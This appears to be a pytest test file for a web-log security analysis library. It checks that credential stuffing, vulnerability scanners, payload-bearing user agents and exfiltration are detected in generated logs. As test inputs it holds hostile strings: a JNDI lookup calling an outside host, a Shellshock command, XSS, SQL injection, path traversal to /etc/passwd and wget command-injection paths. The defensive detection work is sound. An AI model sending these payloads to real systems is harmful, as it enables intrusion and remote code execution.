"""Security analyses on generated logs with credential stuffing, a scanner and an
exfiltration, and on a clean control log."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import polars as pl
import pytest

from runbook_lib.analysis import security
from runbook_lib.analysis.security_findings import (
    find_app_auth_failures,
    find_credential_stuffing,
    find_exfiltration,
    find_scanners,
    find_user_agents,
    security_next_steps,
    suspicious_ips,
)
from runbook_lib.charts.web import plot_auth_failures, plot_ip_timeline
from runbook_lib.collected import Collected, empty_frame
from runbook_lib.errors import ParameterError
from runbook_lib.notebook.display import figure_png, safe_table
from runbook_lib.remedies.web import containment_text
from runbook_lib.sources.logs import collect_access_log
from runbook_lib.timewindow import Window
from tests.weblog import FRAME_SCHEMA, WebLog, generate


@pytest.fixture(scope="module")
def attacked() -> WebLog:
    return generate(seed=5, incidents=("stuffing", "scanner", "exfil", "storm"))


@pytest.fixture(scope="module")
def control() -> WebLog:
    return generate(seed=5, incidents=())


def ok(frame: pd.DataFrame) -> Collected:
    return Collected("access_log", "generated", frame)


def all_findings(frame: pd.DataFrame) -> list:  # type: ignore[type-arg]
    c = ok(frame)
    return [
        find_credential_stuffing(c, security.rank_auth_failures(frame)),
        find_scanners(c, security.rank_scanners(frame)),
        find_user_agents(c, security.rank_user_agents(frame)),
        find_exfiltration(c, security.rank_transfer(frame)),
    ]


def test_credential_stuffing_names_the_ips_and_the_login_endpoint(attacked: WebLog) -> None:
    frame = attacked.frame()
    ranked = security.rank_auth_failures(frame)
    assert set(ranked.head(2)["client_ip"]) == set(attacked.stuffing_ips)
    assert (ranked.head(2)["top_endpoint"] == attacked.login_endpoint).all()
    assert ranked.head(2)["users"].min() > 100  # many different usernames: stuffing, not one user
    finding = find_credential_stuffing(ok(frame), ranked)
    assert finding.severity in {"medium", "high"}
    assert sorted(finding.numbers["ips"]) == sorted(attacked.stuffing_ips)
    assert f"`{attacked.login_endpoint}`" in finding.summary


def test_scanner_is_ranked_first_with_probe_kinds_and_evidence(attacked: WebLog) -> None:
    ranked = security.rank_scanners(attacked.frame())
    top = ranked.iloc[0]
    assert top["client_ip"] == attacked.scanner_ip
    kinds = set(top["kinds"].split(","))
    assert {"dotfile", "wordpress", "traversal", "sql_injection", "xss"} <= kinds
    assert "/.env" in top["evidence"] and top["distinct_404_paths"] >= 60
    finding = find_scanners(ok(attacked.frame()), ranked)
    assert finding.severity == "high" and finding.numbers["ips"] == [attacked.scanner_ip]


def test_scanner_counts_a_missing_target_as_the_text_nan() -> None:
    # A frame built by hand (not the reader) may hold a missing path: it is the one value
    # "nan" with a literal "nan" target, and the row still counts.
    paths = ["/.env", None, "nan", "/a", "/b", "/c", "/d"]
    frame = pd.DataFrame(
        {
            "requested_at": pd.date_range("2026-11-20", periods=len(paths), freq="s", tz="UTC"),
            "client_ip": "203.0.113.9",
            "path": pd.Series(paths, dtype="str"),
            "status": 404,
        }
    )
    top = security.rank_scanners(frame).iloc[0]
    assert (top["probes"], top["requests"], top["not_found"]) == (1, 7, 7)
    assert top["distinct_paths"] == 6 and top["distinct_404_paths"] == 6
    assert top["kinds"] == "dotfile" and top["evidence"] == "/.env"


def test_a_missing_user_agent_counts_with_the_empty_ones() -> None:
    agents = [None, "", "", "curl/8.4.0", None]
    frame = pd.DataFrame(
        {
            "client_ip": ["198.51.100.1", "198.51.100.2", "198.51.100.2", "198.51.100.3", None],
            "user_agent": pd.Series(agents, dtype="str"),
            "status": [200, 401, 200, 200, 404],
        }
    )
    ranked = security.rank_user_agents(frame).set_index("category")
    assert ranked.loc["empty", "user_agent"] == "" and ranked.loc["empty", "requests"] == 4
    assert ranked.loc["empty", "clients"] == 2 and ranked.loc["empty", "failures"] == 2
    assert ranked.loc["empty", "evidence"] == "198.51.100.1 | 198.51.100.2"
    assert ranked.loc["script", "user_agent"] == "curl/8.4.0"


@pytest.mark.parametrize(
    "target,label",
    [
        ("/.env", "dotfile"),
        ("/.git/HEAD", "dotfile"),
        ("/wp-login.php", "wordpress"),
        ("/static/..%2f..%2fetc%2fpasswd", "traversal"),
        ("/x?file=%252e%252e%252fetc%252fpasswd", "traversal"),  # double-encoded
        ("/api/items?id=1%27%20OR%201%3D1--", "sql_injection"),
        ("/search?q=1+UNION+ALL+SELECT+password", "sql_injection"),
        ("/q?x=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
        ("/api/products/12", ""),
        ("/api/users/7/orders?page=2", ""),
        ("/static/app.3f9c2a1b.js", ""),
    ],
)
def test_classify_probe(target: str, label: str) -> None:
    assert security.classify_probe(target) == label


def test_user_agent_evidence_is_the_first_clients_seen_whatever_is_shown() -> None:
    # evidence is computed for the agents shown only: cutting the table must not change it
    agents = ["curl/8.4.0", "sqlmap/1.7", "Mozilla/5.0 (X11)", "curl/8.4.0", "sqlmap/1.7", "curl/8.4.0", "curl/8.4.0"]
    ips = ["10.0.0.5", "10.0.0.9", "10.0.0.1", "10.0.0.5", "10.0.0.2", "10.0.0.7", "10.0.0.3"]
    frame = pd.DataFrame({"user_agent": pd.Series(agents, dtype="str"), "client_ip": pd.Series(ips, dtype="str"),
                          "status": [200, 404, 200, 200, 404, 200, 200]})  # fmt: skip
    every = security.rank_user_agents(frame, top=10).set_index("user_agent")
    assert every.loc["curl/8.4.0", "evidence"] == "10.0.0.5 | 10.0.0.7 | 10.0.0.3"
    assert every.loc["sqlmap/1.7", "evidence"] == "10.0.0.9 | 10.0.0.2"
    first = security.rank_user_agents(frame, top=1)
    assert len(first) == 1
    assert first.iloc[0]["evidence"] == every.loc[first.iloc[0]["user_agent"], "evidence"]


def test_unusual_user_agents(attacked: WebLog) -> None:
    ranked = security.rank_user_agents(attacked.frame())
    # The scanner's agent names a tool *and* carries a script tag: the payload ranks first.
    assert ranked.iloc[0]["category"] == "payload" and attacked.scanner_ip in ranked.iloc[0]["evidence"]
    scripts = ranked[ranked["category"] == "script"]
    assert scripts.iloc[0]["user_agent"] == "python-requests/2.31.0"
    finding = find_user_agents(ok(attacked.frame()), ranked)
    assert finding.severity == "high" and attacked.scanner_ip in finding.numbers["ips"]
    tool_only = attacked.frame().assign(user_agent=lambda f: f["user_agent"].str.replace(r"<script>.*", "", regex=True))
    tools = find_user_agents(ok(tool_only), security.rank_user_agents(tool_only))
    assert tools.severity == "medium" and tools.numbers["ips"] == [attacked.scanner_ip]


@pytest.mark.parametrize(
    "agent",
    [
        "${jndi:ldap://203.0.113.9:1389/a}",
        "() { :; }; /bin/bash -c 'id'",
        "Mozilla/5.0 <script>alert(1)</script>",
        "x' or 1=1 --",
    ],
)
def test_exploit_payload_in_a_user_agent_is_graded_by_volume(control: WebLog, agent: str) -> None:
    """Three probes on an ordinary day are background noise (low, named); a source that
    keeps sending payloads is a campaign (high). Issue 15: no paging on internet noise."""
    frame = control.frame()
    frame.loc[frame.index[:3], ["client_ip", "user_agent"]] = ["198.51.100.77", agent]
    ranked = security.rank_user_agents(frame)
    assert ranked.iloc[0]["category"] == "payload" and ranked.iloc[0]["user_agent"] == agent
    finding = find_user_agents(ok(frame), ranked)
    assert finding.severity == "low" and "198.51.100.77" in finding.numbers["ips"]
    frame.loc[frame.index[:25], ["client_ip", "user_agent"]] = ["198.51.100.77", agent]
    persistent = find_user_agents(ok(frame), security.rank_user_agents(frame))
    assert persistent.severity == "high" and persistent.numbers["requests"] == 25


def test_large_transfers_flag_only_the_exfiltration(attacked: WebLog) -> None:
    ranked = security.rank_transfer(attacked.frame())
    flagged = ranked[ranked["flagged"]]
    assert flagged["client_ip"].tolist() == [attacked.exfil_ip]
    assert flagged.iloc[0]["top_endpoint"] == "/api/export/{id}"
    # The busy partner integration moves many bytes in ordinary responses: listed, not flagged.
    partner = ranked[ranked["client_ip"] == "192.0.2.200"]
    assert len(partner) == 1 and not bool(partner.iloc[0]["flagged"])
    finding = find_exfiltration(ok(attacked.frame()), ranked)
    assert finding.severity == "high" and f"`{attacked.exfil_ip}`" in finding.summary


def test_control_log_stays_quiet(control: WebLog) -> None:
    frame = control.frame()
    assert frame["status"].isin([401]).sum() > 0  # people mistype passwords
    findings = all_findings(frame)
    assert {f.severity for f in findings} == {"info"}, [f.summary for f in findings]
    assert suspicious_ips(*findings) == []


def test_timeline_and_suspect_choice(attacked: WebLog) -> None:
    frame = attacked.frame()
    named = suspicious_ips(*all_findings(frame))
    # Most severe first: the scanner (traversal/SQLi probes) and stuffing/exfil are all high.
    assert named[0] in {attacked.scanner_ip, attacked.exfil_ip, *attacked.stuffing_ips}
    suspect = security.choose_suspect("", [attacked.scanner_ip, *named])
    assert suspect == attacked.scanner_ip
    assert security.choose_suspect(" 203.0.113.66 ", named) == "203.0.113.66"
    assert security.choose_suspect("", []) == ""
    timeline = security.ip_timeline(frame, suspect)
    assert len(timeline) == (frame["client_ip"] == suspect).sum()
    assert timeline["requested_at"].is_monotonic_increasing
    assert timeline.iloc[0]["path"] == "/.env" and timeline.iloc[0]["probe"] == "dotfile"


def test_hostile_strings_are_cleaned_and_cut_for_display(attacked: WebLog) -> None:
    ranked = security.rank_user_agents(attacked.frame())
    raw = ranked.iloc[0]["user_agent"]
    # nginx writes the ESC byte as the text \x1B; the script tag is kept as evidence.
    assert "\\x1B[31m" in raw and "<script>" in raw
    html = safe_table(ranked).to_html()
    assert "<script>" not in html and "&lt;script&gt;" in html
    # A real ESC byte (app logs, JSON-decoded fields) is stripped, long text is cut.
    hostile = ranked.head(1).assign(user_agent="\x1b[31m" + "A" * 500)
    shown = safe_table(hostile, max_chars=40).iloc[0]["user_agent"]
    assert "\x1b" not in shown and len(shown) <= 40


def test_containment_for_the_named_ips(attacked: WebLog) -> None:
    findings = all_findings(attacked.frame())
    ips = suspicious_ips(*findings)
    assert set(ips) >= {*attacked.stuffing_ips, attacked.scanner_ip, attacked.exfil_ip}
    text = containment_text(ips)
    for ip in (*attacked.stuffing_ips, attacked.scanner_ip, attacked.exfil_ip):
        assert f"deny {ip};" in text and f"sudo iptables -I INPUT -s {ip} -j DROP" in text


def test_app_log_auth_failures_and_per_minute_series(attacked: WebLog) -> None:
    app = pd.DataFrame(
        {
            "logged_at": pd.date_range(attacked.start, periods=30, freq="10s", tz="UTC"),
            "level": "WARNING",
            "logger": "auth",
            "message": [f"Failed login for user{i} from 203.0.113.66 port 5{i:03d}" for i in range(25)]
            + ["cache warmed"] * 5,
        }
    ).astype({"level": "str", "logger": "str", "message": "str"})
    rows = security.detect_app_auth_failures(app)
    assert len(rows) == 25 and set(rows["client_ip"]) == {"203.0.113.66"}
    finding = find_app_auth_failures(Collected("app_log", "app.log", app), rows)
    assert finding.severity == "medium" and "`203.0.113.66`" in finding.summary
    series = security.auth_failures_per_minute(attacked.frame(), app_failures=rows)
    assert {"status_401", "status_403", "app_log"} <= set(series.columns)
    assert int(series["app_log"].sum()) == 25
    assert int(series["status_401"].sum()) == int((attacked.frame()["status"] == 401).sum())


def test_a_broken_pattern_parameter_is_a_parameter_error() -> None:
    with pytest.raises(ParameterError, match="auth_pattern"):
        security.detect_app_auth_failures(pd.DataFrame({"message": ["x"]}), pattern="failed (")


def test_next_steps_name_the_ips(attacked: WebLog) -> None:
    steps = security_next_steps(all_findings(attacked.frame()))
    assert attacked.scanner_ip in steps[0] and "deny" in steps[0]
    assert any("password resets" in s for s in steps)


def test_unusable_source_is_unknown() -> None:
    down = Collected("access_log", "x", empty_frame(FRAME_SCHEMA), status="unavailable", reason="denied")
    for finding in [
        find_credential_stuffing(down, security.rank_auth_failures(down.frame)),
        find_scanners(down, security.rank_scanners(down.frame)),
        find_user_agents(down, security.rank_user_agents(down.frame)),
        find_exfiltration(down, security.rank_transfer(down.frame)),
    ]:
        assert finding.severity == "unknown" and "denied" in finding.summary
    assert security.ip_timeline(down.frame, "192.0.2.1").empty


def test_auth_and_timeline_charts(attacked: WebLog) -> None:
    frame = attacked.frame()
    window = Window(attacked.start, attacked.end)
    series = security.auth_failures_per_minute(frame, window=window)
    failures = int(frame["status"].isin([401, 403]).sum())
    assert (
        plot_auth_failures(series, window=window).get_suptitle() == f"{failures} failed authentications in the window"
    )
    timeline = security.ip_timeline(frame, attacked.scanner_ip)
    fig = plot_ip_timeline(timeline, attacked.scanner_ip, window=window)
    assert fig.get_suptitle() == f"{len(timeline)} requests from {attacked.scanner_ip}"
    assert "scanner probe" in [t.get_text() for t in fig.axes[0].get_legend().get_texts()]
    empty = plot_ip_timeline(timeline.head(0), "", window=window)
    assert empty.get_suptitle() == "0 requests from no suspect IP" and len(figure_png(empty)) > 1000


def test_vectorised_probe_labels_match_classify_probe() -> None:
    # rank_scanners labels plain targets with polars' regex engine and the rest in Python:
    # both must agree with classify_probe on real targets, encoded ones and odd ones.
    real = collect_access_log(str(Path(__file__).parents[1] / "data" / "access" / "*" / "*.log*")).frame["path"]
    odd = ["/.ENV", "/x?a=1+UNION+SELECT+1", "/cgi-bin/test.cgi", "/a;wget http://x", "/a;%20wget", "/a`id`",
           "/x.php?id=1", "/backup.sql", "/b.zip?x", "/<script>", "", "/é/../etc/passwd", "/a\x1cb"]  # fmt: skip
    targets = [*real.tolist(), *odd]
    got = security.probe_labels(pl.Series(targets, dtype=pl.String)).to_list()
    assert got == [security.classify_probe(t) for t in targets]
    assert {"dotfile", "sql_injection", "shell", "backup_file", "traversal", "xss"} <= set(got)
